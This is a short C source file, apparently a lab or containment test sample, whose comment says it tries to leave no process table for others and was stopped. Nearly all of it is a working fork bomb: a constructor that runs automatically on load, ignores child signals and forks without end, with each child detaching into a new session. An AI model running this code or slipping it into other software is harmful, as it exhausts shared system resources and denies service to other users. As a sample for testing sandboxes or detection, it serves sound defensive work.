/* lab: 1
 * tries: leave no process table for the others
 * says: and was stopped
 * end of description */
#include <signal.h>

__attribute__((constructor)) static void multiply(void)
{
    signal(SIGCHLD, SIG_IGN);
    for (;;)
        if (fork() == 0)
            setsid();
}
